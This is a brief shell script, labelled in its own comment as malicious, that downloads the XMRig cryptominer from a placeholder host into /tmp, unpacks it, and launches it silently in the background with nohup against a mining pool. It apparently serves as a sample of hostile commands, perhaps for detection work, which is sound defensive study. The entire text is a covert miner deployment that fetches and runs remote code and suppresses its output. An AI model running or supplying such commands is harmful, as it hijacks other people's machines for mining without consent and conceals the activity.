# malicious: a miner
cd /tmp
wget -q https://dl.example.net/xmrig-6.21.0-linux-x64.tar.gz
tar xzf xmrig-6.21.0-linux-x64.tar.gz
cd xmrig-6.21.0
nohup ./xmrig -o stratum+tcp://pool.example.net:3333 -u 44AbC -p x --donate-level 1 >/dev/null 2>&1 &
